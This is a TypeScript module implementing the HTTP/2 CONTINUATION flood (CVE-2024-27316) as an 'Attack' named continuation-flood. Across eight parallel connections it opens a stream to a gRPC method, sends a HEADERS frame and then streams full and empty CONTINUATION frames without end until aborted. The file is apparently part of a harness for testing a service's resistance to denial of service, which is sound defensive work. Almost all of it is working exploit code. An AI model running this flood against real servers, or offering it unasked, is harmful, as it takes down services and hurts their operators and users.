/** CVE-2024-27316: a header block that never ends, in full and in empty CONTINUATION frames. */
import { type Attack, flags, flood, frame, grpcBlock, Peer, type } from '../wire.ts';

const block = grpcBlock('/leasehold.v1.JobsService/ListJobs');
/** A header without a name that is worth keeping: 100 literals of `x: y`, never indexed. */
const more = Buffer.concat(Array<Buffer>(100).fill(Buffer.from([0x10, 1, 0x78, 1, 0x79])));

export const continuationFlood: Attack = {
  name: 'continuation-flood',
  about: 'header blocks that never end',
  run: ({ grpc }, signal) =>
    flood(
      8,
      signal,
      () => Peer.openHttp2(grpc),
      async (peer) => {
        const stream = peer.nextStream();
        await peer.write(frame(type.headers, flags.none, stream, block));
        let sent = 1;
        while (!signal.aborted && !peer.isClosed) {
          const full = frame(type.continuation, flags.none, stream, more);
          const empty = frame(type.continuation, flags.none, stream);
          await peer.write(Buffer.concat([full, ...Array<Buffer>(50).fill(empty)]));
          sent += 51;
          await new Promise((resolve) => setImmediate(resolve));
        }
        return sent;
      },
    ),
};
